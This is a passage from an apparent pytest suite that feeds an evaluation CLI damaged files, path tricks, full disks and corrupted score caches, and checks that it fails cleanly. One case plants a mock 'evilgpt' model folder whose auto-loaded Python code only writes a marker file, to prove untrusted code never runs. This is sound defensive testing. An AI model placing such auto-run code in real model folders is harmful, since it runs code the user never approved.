"""Hostile input and faults through the real CLI (issues 12 and 24): every case runs `python -m evalkit.cli`
in a subprocess inside its own sandbox folder and must end with exit code 2, one `error:` line on stderr
naming the problem, no traceback, and every file that was in the sandbox before unchanged.

Damage evalkit repairs itself (a torn or foreign line in the score cache, a cache it cannot write) is
not an error: those cases end with exit code 0 and one `warning:` line naming file:line, and only the
files the case names may change (the repaired cache), checked by the case.

Faults are real, not simulated: a read-only bind mount and a full tmpfs in a private mount namespace
(`unshare -m`; tests run as root, which ignores permission bits, so chmod would prove nothing),
/dev/full for a full disk on stdout, a path under a file, /proc for a folder nobody can create files in.

To add a case, append a Case to CASES: `build` writes the inputs into the sandbox and returns the
arguments after `evalkit`. Run folders come from tests/run_folders.py (stored stories, real cheap scorers).
CSV formula injection in `leaderboard` is a cell check, not an exit 2: its own test below.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shlex
import shutil
import stat
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parent.parent
SMOKE = REPO / "suites" / "smoke"
PLUGIN_SRC = REPO / "tests" / "data" / "evalkit-echo-plugin"
ENV = {**os.environ, "HF_HUB_OFFLINE": "1", "OMP_NUM_THREADS": "1", "TOKENIZERS_PARALLELISM": "false",
       "TRANSFORMERS_VERBOSITY": "error"}
GOOD_STORY = '{"story": "Mia found a red kite. She ran up the hill. The kite flew high and Mia laughed."}\n'


@dataclass
class Sandbox:
    root: Path
    gpt2: Path | None = None  # a copy of the tiny GPT-2 inside the sandbox, so it is checksummed too
    plugin: Path | None = None  # site folder of the echo backend plugin

    def write(self, rel: str, data: str | bytes) -> Path:
        p = self.root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data.encode() if isinstance(data, str) else data)
        return p

    def suite(self, rel: str = "suite", toml: str | bytes | None = None, stories: str | bytes | None = None,
              train: bool = False) -> Path:
        """The smoke suite copied (optionally with a train/validation split, for finetune), then damaged."""
        d = self.root / rel
        d.mkdir(parents=True, exist_ok=True)
        text = (SMOKE / "suite.toml").read_text(encoding="utf-8").split("[regress]")[0]
        rows = [json.loads(x) for x in (SMOKE / "stories.jsonl").read_text(encoding="utf-8").splitlines() if x.strip()]
        if train:
            rows = [{**r, "id": f"t{i}", "split": "train" if i < 4 else "validation",
                     "story": " ".join(r["story"].split()[:30])} for i, r in enumerate(rows * 2)][:6]
        self.write(f"{rel}/suite.toml", text if toml is None else toml)
        self.write(f"{rel}/stories.jsonl", "".join(json.dumps(r) + "\n" for r in rows) if stories is None else stories)
        return d

    def good_stories(self) -> Path:
        return self.write("in/stories.jsonl", GOOD_STORY)

    def echo_models(self) -> Path:
        return self.write("echo.toml", '[models.echo-a]\nbackend = "echo"\nsource = "a"\n'
                                       '[models.echo-b]\nbackend = "echo"\nsource = "b"\n')


@dataclass(frozen=True)
class Case:
    id: str
    build: Callable[[Sandbox], list[str]]  # writes the inputs, returns the arguments after `evalkit`
    message: str  # a regex the one error line must match
    needs: tuple[str, ...] = ()  # "gpt2", "plugin", "unshare"
    mount: tuple[str, str] | None = None  # ("ro" | "full", folder relative to the sandbox), in a private namespace
    stdout: str | None = None  # a file stdout is redirected to (e.g. /dev/full)
    progress: bool = False  # progress lines may come before the error line (a fault mid-run)
    check: Callable[[Sandbox, subprocess.CompletedProcess], None] | None = None
    slow: bool = False
    exit: int = 2  # 0: damage evalkit repairs, reported by one `warning:` line (none when message is "")
    changes: tuple[str, ...] = ()  # pre-existing files (relative to the sandbox) the command may rewrite


def _score(sb: Sandbox, *extra: str) -> list[str]:
    return ["score", str(sb.good_stories()), "--scorers", "repetition", *extra]


def _score_suite(**suite_kw) -> Callable[[Sandbox], list[str]]:
    return lambda sb: _score(sb, "--suite", str(sb.suite(**suite_kw)))


def _finetune(sb: Sandbox, *extra: str) -> list[str]:
    assert sb.gpt2 is not None
    return ["finetune", str(sb.gpt2), "--recipe", "full", "--suite", str(sb.suite(train=True)), *extra]


def _loop(sb: Sandbox, rel: str) -> Path:
    p = sb.root / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    p.symlink_to(p.name)  # points at itself
    return p


def _suite_with_loop(sb: Sandbox) -> list[str]:
    d = sb.suite()
    (d / "stories.jsonl").unlink()
    _loop(sb, "suite/stories.jsonl")
    return _score(sb, "--suite", str(d))


def _suite_with_folder(name: str) -> Callable[[Sandbox], list[str]]:
    def build(sb: Sandbox) -> list[str]:
        d = sb.suite()
        (d / name).unlink()
        (d / name).mkdir()
        (d / name / "keep.txt").write_text("untouched")
        return _score(sb, "--suite", str(d))
    return build


def _non_utf8_stories(sb: Sandbox) -> list[str]:
    lines = (SMOKE / "stories.jsonl").read_bytes().split(b"\n")
    lines[2] = lines[2].replace(b"a", b"\xe9", 1)  # Latin-1 e-acute inside line 3
    return _score(sb, "--suite", str(sb.suite(stories=b"\n".join(lines))))


def _custom_code_base(sb: Sandbox) -> list[str]:
    """A model folder whose config asks for its own Python code: the code must never run."""
    assert sb.gpt2 is not None
    cfg = json.loads((sb.gpt2 / "config.json").read_text())
    cfg.update(model_type="evilgpt", auto_map={"AutoConfig": "configuration_evil.EvilConfig",
                                               "AutoModelForCausalLM": "modeling_evil.EvilModel"})
    (sb.gpt2 / "config.json").write_text(json.dumps(cfg))
    payload = "import pathlib\npathlib.Path(__file__).with_name('CODE_RAN').write_text('ran')\n"
    for f in ("configuration_evil.py", "modeling_evil.py"):
        (sb.gpt2 / f).write_text(payload + "from transformers import GPT2Config as EvilConfig, "
                                           "GPT2LMHeadModel as EvilModel\n")
    return _finetune(sb, "--output", str(sb.root / "out"))


def _no_code_ran(sb: Sandbox, res: subprocess.CompletedProcess) -> None:
    assert sb.gpt2 is not None and not (sb.gpt2 / "CODE_RAN").exists()


def _dev_full_intact(sb: Sandbox, res: subprocess.CompletedProcess) -> None:
    assert stat.S_ISCHR(os.stat("/dev/full").st_mode)


def _generated_kept(sb: Sandbox, res: subprocess.CompletedProcess) -> None:
    kept = re.search(r"KEPT (\d+)", res.stdout)
    assert kept and int(kept.group(1)) >= 5, res.stdout[-500:]  # echo-a's five stories survived the full disk


def _compare(sb: Sandbox, results: str) -> list[str]:
    return ["compare", "echo-a", "echo-b", "--suite", "smoke", "--models-file", str(sb.echo_models()),
            "--scorers", "repetition", "--results-dir", results]


def _run(sb: Sandbox, rel: str = "a", run_id: str = "20250101-000000-base01", **kw) -> Path:
    """A scored run folder (stored stories, real scorers) inside the sandbox, so it is checksummed."""
    from run_folders import make_run

    return make_run(sb.root / rel, run_id=run_id, **kw)


def _two_runs(sb: Sandbox) -> tuple[Path, Path]:
    return _run(sb, "a"), _run(sb, "b", run_id="20250102-000000-cand01")


def _torn_line(path: Path, n: int) -> None:
    """Cut line n (1-based) in half, as a writer killed mid-line leaves it."""
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    lines[n - 1] = lines[n - 1][: len(lines[n - 1]) // 2] + "\n"
    path.write_text("".join(lines), encoding="utf-8")


def _regress_torn_candidate(sb: Sandbox) -> list[str]:
    base, cand = _two_runs(sb)
    _torn_line(cand / "scores.jsonl", 3)
    return ["regress", "-b", str(base), "-c", str(cand)]


def _regress_torn_baseline(sb: Sandbox) -> list[str]:
    base, cand = _two_runs(sb)
    _torn_line(base / "scores.jsonl", 2)
    return ["regress", "-b", str(base), "-c", str(cand)]


def _pinned(sb: Sandbox, edit: Callable[[dict], None]) -> list[str]:
    from evalkit.regress import pin_baseline

    base, cand = _two_runs(sb)
    pin = sb.root / "baseline.json"
    pin_baseline(base, pin)
    data = json.loads(pin.read_text(encoding="utf-8"))
    edit(data)
    pin.write_text(json.dumps(data, indent=2), encoding="utf-8")
    return ["regress", "-b", str(pin), "-c", str(cand)]


def _edit_story_and_drop_hash(data: dict) -> None:
    data.pop("content_hash")
    model = next(iter(data["models"].values()))
    next(iter(model["stories"].values()))["distinct_2"] = 1.0  # the edit the hash would have caught


def _pin_over(target: Callable[[Sandbox, Path], Path], *extra: str) -> Callable[[Sandbox], list[str]]:
    def build(sb: Sandbox) -> list[str]:
        run = _run(sb)
        return ["regress", "-b", str(run), "--pin", str(target(sb, run)), *extra]
    return build


def _damaged_generations(sb: Sandbox) -> list[str]:
    """A run whose generations.jsonl lost line 3 to a torn write, not scored yet: `evalkit report` scores it."""
    run = _run(sb)
    _torn_line(run / "generations.jsonl", 3)
    for name in ("scores.jsonl", "summary.json", "rating.json", "anchors.json"):
        (run / name).unlink(missing_ok=True)
    return ["report", str(run)]


def _no_hub_hint(sb: Sandbox, res: subprocess.CompletedProcess) -> None:
    assert "Hugging Face" not in res.stderr, res.stderr  # a local file's problem is not about the hub


def _gguf(sb: Sandbox, data: bytes) -> list[str]:
    return ["compare", str(sb.write("story.gguf", data)), "--suite", "smoke", "--scorers", "repetition",
            "--results-dir", "res"]


GGUF_CUT_IN_METADATA = b"GGUF" + (3).to_bytes(4, "little") + (1).to_bytes(8, "little") + (2).to_bytes(8, "little") \
    + (20).to_bytes(8, "little") + b"general.arch"  # the first key's name is cut short


CASES = [
    # item 1: --output is, holds or sits in the base model's folder (any spelling), --overwrite on foreign files
    Case("finetune-output-is-base", lambda sb: _finetune(sb, "--output", str(sb.gpt2), "--overwrite"),
         r"output .* is the base model's folder .*nothing was changed", needs=("gpt2",)),
    Case("finetune-output-holds-base", lambda sb: _finetune(sb, "--output", str(sb.root), "--overwrite"),
         r"holds the base model's folder", needs=("gpt2",)),
    Case("finetune-output-inside-base", lambda sb: _finetune(sb, "--output", str(sb.gpt2 / "sub"), "--overwrite"),
         r"is inside the base model's folder", needs=("gpt2",)),
    Case("finetune-output-base-other-spelling",
         lambda sb: _finetune(sb, "--output", str(sb.root / "base" / ".." / "base"), "--overwrite"),
         r"is the base model's folder", needs=("gpt2",)),
    Case("finetune-output-symlink-to-base",
         lambda sb: (sb.root / "link").symlink_to(sb.gpt2) or _finetune(sb, "--output", str(sb.root / "link"),
                                                                        "--overwrite"),
         r"is the base model's folder", needs=("gpt2",)),
    Case("finetune-overwrite-foreign-folder",
         lambda sb: sb.write("mine/notes.txt", "my notes") and _finetune(sb, "--output", str(sb.root / "mine"),
                                                                         "--overwrite"),
         r"holds files evalkit did not write \(found: notes.txt\)", needs=("gpt2",)),
    # smaller: a --set typo names the key and the recipe in use
    Case("finetune-set-typo", lambda sb: _finetune(sb, "--set", "warmpu=0.1"),
         r"^error: --set warmpu: recipe 'full' in use \(.*full\.toml\): unknown key\(s\) warmpu", needs=("gpt2",)),
    # item 11: a folder asking for its own code is refused without running it or prompting
    Case("finetune-custom-code-base", _custom_code_base, r"contains custom code", needs=("gpt2",),
         check=_no_code_ran, slow=True),
    Case("finetune-output-is-a-file", lambda sb: _finetune(sb, "--output", str(sb.write("out.bin", "data"))),
         r"out\.bin' is a file", needs=("gpt2",)),
    Case("finetune-recipe-non-utf8", lambda sb: _finetune(sb, "--recipe", str(sb.write("r.toml", b'name = "\xff"\n'))),
         r"recipe .*r\.toml: .*can't decode byte 0xff", needs=("gpt2",)),
    Case("finetune-recipe-is-a-folder", lambda sb: (sb.root / "r.toml").mkdir() or _finetune(sb, "--recipe",
                                                                                            str(sb.root / "r.toml")),
         r"recipe file .*r\.toml is a folder", needs=("gpt2",)),
    Case("models-file-not-toml", lambda sb: ["finetune", "x", "--models-file", str(sb.write("m.toml", "a = = 1\n"))],
         r"m\.toml: .*line 1"),
    Case("models-file-non-utf8",
         lambda sb: ["finetune", "a", "--models-file", str(sb.write("m.toml", b'[models.a]\nsource = "\xff"\n'))],
         r"not UTF-8 text \(byte 0xff"),
    Case("models-file-is-a-folder", lambda sb: (sb.root / "m.toml").mkdir() or ["finetune", "x", "--models-file",
                                                                                 str(sb.root / "m.toml")],
         r"m\.toml' is a directory"),
    # items 9 and 13: suites
    Case("suite-non-utf8", _non_utf8_stories, r"stories\.jsonl:3: not UTF-8 text \(byte 0xe9"),
    Case("suite-toml-non-utf8", _score_suite(toml=b'name = "x"\n# caf\xe9\n'), r"suite\.toml:2: not UTF-8 text"),
    Case("suite-templates-not-a-table",
         _score_suite(toml='templates = "base"\n' + (SMOKE / "suite.toml").read_text().split("[regress]")[0]),
         r"suite\.toml: \[templates\] must be a table"),
    Case("suite-template-not-a-string",
         _score_suite(toml=(SMOKE / "suite.toml").read_text().split("[regress]")[0] + "\n[templates]\nbase = 3\n"),
         r"suite\.toml: template 'base' must be a string, not int"),
    Case("suite-stories-is-a-folder", _suite_with_folder("stories.jsonl"), r"stories\.jsonl: is a folder"),
    Case("suite-toml-is-a-folder", _suite_with_folder("suite.toml"), r"suite\.toml: is a folder"),
    Case("suite-stories-symlink-loop", _suite_with_loop, r"stories\.jsonl: Too many levels of symbolic links"),
    Case("suite-toml-empty", _score_suite(toml=""), r"suite\.toml: \[genres\] must map"),
    Case("suite-stories-empty", _score_suite(stories=""), r"stories\.jsonl: no stories"),
    Case("suite-huge-line", _score_suite(stories=b"{" + b"x" * 8_000_000), r"stories\.jsonl:1: not valid JSON"),
    Case("suite-is-a-file", lambda sb: _score(sb, "--suite", str(sb.write("notasuite", "x"))), r"unknown suite"),
    # `evalkit score` input and output
    Case("score-input-non-utf8", lambda sb: ["score", str(sb.write("s.jsonl", GOOD_STORY.encode() + b'{"story": "\xff"}\n')),
                                             "--scorers", "repetition"], r"s\.jsonl:2: not UTF-8 text"),
    Case("score-input-empty", lambda sb: ["score", str(sb.write("s.jsonl", "")), "--scorers", "repetition"],
         r"no stories"),
    Case("score-input-is-a-folder", lambda sb: ["score", str(sb.suite()), "--scorers", "repetition"],
         r"suite' is a directory"),
    Case("score-input-symlink-loop", lambda sb: ["score", str(_loop(sb, "s.jsonl")), "--scorers", "repetition"],
         r"s\.jsonl: Too many levels of symbolic links"),
    # item 12: file-system faults
    # item 2: the output is the input, under any spelling or link
    Case("score-output-is-input", lambda sb: _score(sb, "-o", str(sb.root / "in" / "stories.jsonl")),
         r"-o .*stories\.jsonl is the input file .*would replace the stories"),
    Case("score-output-is-input-other-spelling",
         lambda sb: _score(sb, "-o", str(sb.root / "in" / ".." / "in" / "./stories.jsonl")), r"is the input file"),
    Case("score-output-is-input-relative", lambda sb: sb.good_stories() and ["score", "in/stories.jsonl", "-o",
                                                                            "./in/stories.jsonl", "--scorers",
                                                                            "repetition"], r"is the input file"),
    Case("score-output-hard-link-to-input",
         lambda sb: os.link(sb.good_stories(), sb.root / "link.jsonl") or _score(sb, "-o", str(sb.root / "link.jsonl")),
         r"link\.jsonl is the input file"),
    Case("score-output-symlink-to-input",
         lambda sb: (sb.root / "sym.jsonl").symlink_to(sb.good_stories()) or _score(sb, "-o", str(sb.root / "sym.jsonl")),
         r"sym\.jsonl is the input file"),
    # item 2: --pin never replaces a file silently, and never a file of the run, even with --force
    Case("regress-pin-over-existing-baseline",
         _pin_over(lambda sb, run: sb.write("baselines/smoke.json", '{"schema": "evalkit.baseline/1"}')),
         r"--pin .*smoke\.json: the file exists .*pass --force to replace it"),
    Case("regress-pin-into-the-run-with-force", _pin_over(lambda sb, run: run / "summary.json", "--force"),
         r"is a file of the baseline run"),
    Case("regress-force-without-pin", lambda sb: ["regress", "-b", str(_run(sb)), "-c", str(_run(sb, "b")), "--force"],
         r"--force only applies to --pin"),
    # item 3: a damaged scores.jsonl is bad input (exit 2), never a failed story (exit 1, a false alarm)
    Case("regress-torn-candidate-scores", _regress_torn_candidate,
         r"cand01/scores\.jsonl:3: damaged line .*cannot be compared.*evalkit report .*--rerate"),
    Case("regress-torn-baseline-scores", _regress_torn_baseline, r"base01/scores\.jsonl:2: damaged line"),
    Case("regress-pin-from-torn-run", lambda sb: _torn_line(_run(sb) / "scores.jsonl", 4) or
         ["regress", "-b", str(sb.root / "a" / "results" / "20250101-000000-base01"), "--pin", str(sb.root / "p.json")],
         r"scores\.jsonl:4: damaged line"),
    # item 4: deleting content_hash does not switch the tamper check off
    Case("regress-baseline-hash-deleted", lambda sb: _pinned(sb, _edit_story_and_drop_hash),
         r"baseline\.json: no content_hash .*edited or damaged; pin it again"),
    Case("regress-baseline-hash-null", lambda sb: _pinned(sb, lambda d: d.update(content_hash=None)),
         r"baseline\.json: content hash does not match"),
    # item 8: damaged generations lines that lose stories stop scoring, naming file:line and the fix
    Case("report-damaged-generations", _damaged_generations,
         r"generations\.jsonl:3: damaged line \(JSONDecodeError\): 1 story of run 20250101-000000-base01 cannot "
         r"be read \(storyteller: 1\); rerun .*generates only the missing ones.*delete the damaged line"),
    # a damaged local weight file is named, without advice about the hub
    Case("compare-gguf-cut-in-header", lambda sb: _gguf(sb, b"GGUF\x03\x00"), r"story\.gguf: truncated GGUF file",
         check=_no_hub_hint),
    Case("compare-gguf-cut-in-metadata", lambda sb: _gguf(sb, GGUF_CUT_IN_METADATA),
         r"story\.gguf: damaged or truncated GGUF file", progress=True, check=_no_hub_hint),
    Case("compare-gguf-text", lambda sb: _gguf(sb, b"not a model at all\n"), r"story\.gguf: not a GGUF file",
         check=_no_hub_hint),
    Case("score-output-under-a-file", lambda sb: _score(sb, "-o", str(sb.root / "in" / "stories.jsonl" / "out.jsonl")),
         r"in/stories\.jsonl: is a file where a folder is needed"),
    Case("score-output-is-a-folder", lambda sb: _score(sb, "-o", str(sb.suite())),
         r"suite' is a directory"),
    Case("score-output-dev-full", lambda sb: _score(sb, "-o", "/dev/full"), r"/dev/full: not a regular file",
         check=_dev_full_intact),
    Case("score-output-in-proc", lambda sb: _score(sb, "-o", "/proc/version"),
         r"/proc/version: cannot create a file in /proc"),
    Case("score-stdout-disk-full", lambda sb: _score(sb), r"No space left on device", stdout="/dev/full"),
    Case("compare-results-under-a-file", lambda sb: _compare(sb, str(sb.write("res", "a file") / "sub")),
         r"res/sub: Not a directory", needs=("plugin",)),
    Case("compare-results-is-a-file", lambda sb: _compare(sb, str(sb.write("res", "a file"))), r"'.*res' is a file",
         needs=("plugin",)),
    Case("compare-results-read-only", lambda sb: (sb.root / "ro").mkdir() or _compare(sb, "ro/results"),
         r"ro/results: Read-only file system", needs=("plugin", "unshare"), mount=("ro", "ro")),
    Case("compare-disk-full", lambda sb: (sb.root / "full").mkdir() or _compare(sb, "full/results"),
         r"full/results/.*: No space left on device", needs=("plugin", "unshare"), mount=("full", "full"),
         progress=True, check=_generated_kept),
]


# ---------------------------------------------------------------- issue 24: the score cache under damage

MANY_STORIES = [f"Mia found a red kite number {n}. She ran up the hill {n} times. The kite flew high and Mia laughed."
                for n in range(5)]
CACHE = "results/.cache/scores/repetition.jsonl"


def _score_cached(damage: Callable[[Path], None] | None = None) -> Callable[[Sandbox], list[str]]:
    """`evalkit score` over five stories whose repetition scores are already in ./results' score cache
    (stored as the command stores them), with the cache file then damaged by ``damage``."""
    def build(sb: Sandbox) -> list[str]:
        from evalkit.score_cache import ScoreCache
        from evalkit.scorers.base import ScoringContext
        from evalkit.stories import make_scorers, read_stories, score_rows

        stories = sb.write("in/many.jsonl", "".join(json.dumps({"id": f"s{n}", "story": t}) + "\n"
                                                    for n, t in enumerate(MANY_STORIES)))
        score_rows(read_stories(stories, None), make_scorers(["repetition"]), ScoringContext(),
                   cache=ScoreCache(sb.root / "results" / ".cache" / "scores"))
        if damage is not None:
            damage(sb.root / CACHE)
        return ["score", str(stories), "--suite", "none", "--scorers", "repetition"]
    return build


def _edit_line(n: int, edit: Callable[[str], str]) -> Callable[[Path], None]:
    def damage(path: Path) -> None:
        lines = path.read_bytes().split(b"\n")
        lines[n - 1] = edit(lines[n - 1].decode()).encode("utf-8", "surrogateescape")
        path.write_bytes(b"\n".join(lines))
    return damage


def _entry_edit(**changes) -> Callable[[str], str]:
    return lambda line: json.dumps({**json.loads(line), **changes})


def _older_version(path: Path) -> None:
    """The cache as an older version of the scorer wrote it: other identity, so other keys."""
    from evalkit.score_cache import CachedScore, entry
    from evalkit.scorers.base import StoryScores

    old = [CachedScore.model_validate_json(x) for x in path.read_text().splitlines()]
    path.write_text("".join(entry(f"{n:064d}", e.scorer, "0", StoryScores(e.values, e.notes)).model_dump_json(by_alias=True)
                            + "\n" for n, e in enumerate(old)))


def _cache_repaired(sb: Sandbox, res: subprocess.CompletedProcess) -> None:
    """Every story scored on stdout, and the cache holds each story once, every line valid."""
    rows = [json.loads(x) for x in res.stdout.splitlines()]
    assert len(rows) == 5 and all(r["seq_rep_4"] is not None for r in rows)
    entries = [json.loads(x) for x in (sb.root / CACHE).read_text().splitlines()]
    keys = [e["key"] for e in entries if e.get("scorer") == "repetition"]
    assert len(entries) == 5 and len(set(keys)) == 5, entries
    assert not [p.name for p in (sb.root / CACHE).parent.iterdir() if p.name.endswith(".tmp")]


def _scored_out(sb: Sandbox, res: subprocess.CompletedProcess, n: int = 5) -> None:
    rows = [json.loads(x) for x in res.stdout.splitlines() if not x.startswith("KEPT")]
    assert len(rows) == n and all(r["seq_rep_4"] is not None for r in rows)


def _lost(n: int, torn: bool = True) -> Callable[[Sandbox], list[str]]:
    """A scored, complete run whose generations.jsonl then lost line n (torn in half, or deleted)."""
    def build(sb: Sandbox) -> list[str]:
        run = _run(sb)
        path = run / "generations.jsonl"
        lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
        lines[n - 1] = lines[n - 1][: len(lines[n - 1]) // 2] + "\n" if torn else ""
        path.write_text("".join(lines), encoding="utf-8")
        return ["report", str(run)]
    return build


def _scored_run_without(edit: Callable[[Path], None]) -> Callable[[Sandbox], list[str]]:
    def build(sb: Sandbox) -> list[str]:
        run = _run(sb)
        edit(run / "generations.jsonl")
        return ["report", str(run)]
    return build


OBEY_SUITE = (SMOKE / "suite.toml").read_text(encoding="utf-8").split("[regress]")[0] + '\n[judge]\ninjection = "obey"\n'


def _judge_injection_mode(sb: Sandbox) -> list[str]:
    assert sb.gpt2 is not None
    return _score(sb, "--suite", str(sb.suite(toml=OBEY_SUITE)), "--judge", str(sb.gpt2))


def _nothing_generated(sb: Sandbox, res: subprocess.CompletedProcess) -> None:
    assert not list((sb.root / "res").glob("*/generations.jsonl"))


CACHE_CASES = [
    # item 3: damaged score cache lines are skipped with one warning (file:line), rescored, the file repaired
    Case("score-cache-torn-line", _score_cached(_edit_line(2, lambda s: s[: len(s) // 2])),
         r"^warning: .*scores/repetition\.jsonl:2: skipped a damaged cache line \(not JSON: torn or edited\); its "
         r"entry is computed again and the file was rewritten without it$", exit=0, changes=(CACHE,), check=_cache_repaired),
    Case("score-cache-torn-last-line", _score_cached(lambda p: p.write_bytes(p.read_bytes()[:-40])),
         r"repetition\.jsonl:5: skipped a damaged cache line \(not JSON", exit=0, changes=(CACHE,), check=_cache_repaired),
    Case("score-cache-foreign-line", _score_cached(_edit_line(3, lambda s: json.dumps(
        {"model": "m", "item_id": "x", "text": "a generation record pasted in"}))),
         r"repetition\.jsonl:3: skipped a damaged cache line \(not a CachedScore record", exit=0, changes=(CACHE,),
         check=_cache_repaired),
    Case("score-cache-other-scorer-line", _score_cached(_edit_line(1, _entry_edit(scorer="vocabulary"))),
         r"repetition\.jsonl:1: skipped a damaged cache line \(an entry of scorer 'vocabulary'\)", exit=0,
         changes=(CACHE,), check=_cache_repaired),
    Case("score-cache-hand-edited-value", _score_cached(_edit_line(4, lambda s: json.dumps(
        {**json.loads(s), "values": {k: 0.0 for k in json.loads(s)["values"]}}))),
         r"repetition\.jsonl:4: skipped a damaged cache line \(its numbers do not match its checksum: edited by hand\)",
         exit=0, changes=(CACHE,), check=_cache_repaired),
    Case("score-cache-hand-edited-note", _score_cached(_edit_line(2, _entry_edit(notes={"seq_rep_4": "fine"}))),
         r"repetition\.jsonl:2: .*checksum", exit=0, changes=(CACHE,), check=_cache_repaired),
    Case("score-cache-not-utf8", _score_cached(_edit_line(2, lambda s: s[:20] + "\udce9" + s[21:])),
         r"repetition\.jsonl:2: skipped a damaged cache line \(not UTF-8 text\)", exit=0, changes=(CACHE,),
         check=_cache_repaired),
    Case("score-cache-json-array-line", _score_cached(_edit_line(1, lambda s: "[1, 2, 3]")),
         r"repetition\.jsonl:1: skipped a damaged cache line \(not a CachedScore record", exit=0, changes=(CACHE,),
         check=_cache_repaired),
    Case("score-cache-value-not-a-number", _score_cached(_edit_line(5, lambda s: json.dumps(
        {**json.loads(s), "values": {k: "high" for k in json.loads(s)["values"]}}))),
         r"repetition\.jsonl:5: skipped a damaged cache line \(not a CachedScore record: \('values', ", exit=0,
         changes=(CACHE,), check=_cache_repaired),
    Case("score-cache-key-missing", _score_cached(_edit_line(3, lambda s: json.dumps(
        {k: v for k, v in json.loads(s).items() if k != "key"}))),
         r"repetition\.jsonl:3: skipped a damaged cache line \(not a CachedScore record: \('key',\) Field required\)",
         exit=0, changes=(CACHE,), check=_cache_repaired),
    Case("score-cache-huge-garbage-line", _score_cached(lambda p: p.write_bytes(b"{" + b"x" * 4_000_000 + b"\n"
                                                                             + p.read_bytes())),
         r"repetition\.jsonl:1: skipped a damaged cache line \(not JSON", exit=0, changes=(CACHE,), check=_cache_repaired),
    Case("score-cache-three-damaged-lines-one-warning",
         _score_cached(lambda p: p.write_text("\n".join(x if n not in (1, 3, 4) else x[:30]
                                                        for n, x in enumerate(p.read_text().splitlines(), 1)) + "\n")),
         r"repetition\.jsonl:1: skipped a damaged cache line \(not JSON: torn or edited\) \(and 2 more: line 3, 4\)",
         exit=0, changes=(CACHE,), check=_cache_repaired),
    Case("score-cache-nul-bytes", _score_cached(lambda p: p.write_bytes(b"\x00" * 512 + b"\n" + p.read_bytes())),
         r"repetition\.jsonl:1: skipped a damaged cache line", exit=0, changes=(CACHE,), check=_cache_repaired),
    # an older scorer version's entries have other keys: never read, no warning, the story scored afresh
    Case("score-cache-older-scorer-version", _score_cached(_older_version),
         "", exit=0, changes=(CACHE,), check=_scored_out),
    # a cache evalkit cannot write costs the cache, never the scores
    Case("score-cache-read-only", lambda sb: (sb.root / "results").mkdir() or _score(sb),
         r"^warning: cannot store scores in results/\.cache/scores \(Read-only file system\): scoring goes on "
         r"without storing them$", needs=("unshare",), mount=("ro", "results"), exit=0,
         check=lambda sb, res: _scored_out(sb, res, 1)),
    Case("score-cache-lock-is-a-folder", lambda sb: (sb.root / (CACHE + ".lock")).mkdir(parents=True) or _score(sb),
         r"^warning: cannot store scores in results/\.cache/scores \(Is a directory\): scoring goes on", exit=0,
         check=lambda sb, res: _scored_out(sb, res, 1)),
    # valid lines need no repair: the file stays as it is and nothing is scored again
    Case("score-cache-from-older-evalkit-without-checksums", _score_cached(lambda p: p.write_text("".join(
        json.dumps({k: v for k, v in json.loads(x).items() if k != "check"}) + "\n" for x in p.read_text().splitlines()))),
         "", exit=0, check=_scored_out),
    Case("score-cache-duplicated-line", _score_cached(lambda p: p.write_text(p.read_text() + p.read_text().splitlines()[0]
                                                                            + "\n")),
         "", exit=0, check=_scored_out),
    Case("score-cache-crlf-line-ends", _score_cached(lambda p: p.write_bytes(p.read_bytes().replace(b"\n", b"\r\n"))),
         "", exit=0, check=_scored_out),
    Case("score-cache-is-a-folder", lambda sb: (sb.root / CACHE).mkdir(parents=True) or _score(sb),
         r"repetition\.jsonl.*Is a directory"),
    Case("score-cache-symlink-loop", lambda sb: _loop(sb, CACHE) and _score(sb),
         r"repetition\.jsonl.*Too many levels of symbolic links"),
    # item 4: a scored run whose generations lost stories is not reported as if complete
    Case("report-scored-torn-generation", _lost(3),
         r"generations\.jsonl:3: damaged line \(JSONDecodeError\): run 20250101-000000-base01 lost 1 story from "
         r"generations\.jsonl \(storyteller: smoke-\w+\); rerun .*generates only the missing ones\), or pass "
         r"--allow-missing to report the rest without them$"),
    Case("report-scored-deleted-generation", _lost(4, torn=False),
         r"^error: run 20250101-000000-base01 lost 1 story from generations\.jsonl \(parrot: smoke-\w+\); .*--allow-missing"),
    Case("report-scored-generations-emptied", _scored_run_without(lambda p: p.write_text("")),
         r"lost 10 stories from generations\.jsonl \(storyteller: smoke-\w+, .*; parrot: "),
    Case("report-scored-generations-deleted", _scored_run_without(lambda p: p.unlink()),
         r"lost 10 stories from generations\.jsonl"),
    Case("report-scored-generations-binary-byte", _scored_run_without(lambda p: p.write_bytes(b"\xff" + p.read_bytes()[1:])),
         r"generations\.jsonl:1: damaged line .*lost 1 story .*\(storyteller: smoke-"),
    Case("report-scored-generations-foreign-line", _scored_run_without(lambda p: p.write_text(
        "\n".join([json.dumps({"story": "pasted"})] + p.read_text().splitlines()[1:]) + "\n")),
         r"generations\.jsonl:1: damaged line \(ValidationError\): run .* lost 1 story"),
    Case("report-scored-generations-is-a-folder", _scored_run_without(lambda p: p.unlink() or p.mkdir()),
         r"generations\.jsonl.*(Is a directory|is a folder)"),
    # item 1: an unknown [judge] injection mode stops before any judging
    Case("score-judge-injection-mode-unknown", _judge_injection_mode,
         r"suite\.toml \[judge\] injection: 'obey' is not one of drop, fence, off", needs=("gpt2",)),
    Case("compare-judge-injection-mode-unknown", lambda sb: ["compare", "echo-a", "echo-b", "--suite",
                                                             str(sb.suite(toml=OBEY_SUITE)), "--models-file",
                                                             str(sb.echo_models()), "--scorers", "repetition",
                                                             "--judge", "echo-a", "--results-dir", "res"],
         r"\[judge\] injection: 'obey' is not one of", needs=("plugin",), check=_nothing_generated),
]


def snapshot(root: Path) -> dict[str, str]:
    """sha256 of every file under root (symlinks by their target, never followed)."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in filenames + [d for d in dirnames if os.path.islink(os.path.join(dirpath, d))]:
            p = Path(dirpath, name)
            rel = str(p.relative_to(root))
            out[rel] = "link:" + os.readlink(p) if p.is_symlink() else hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def command_line(case: Case, args: list[str]) -> list[str]:
    cmd = [sys.executable, "-m", "evalkit.cli", *args]
    if case.mount is None:
        return cmd
    kind, rel = case.mount
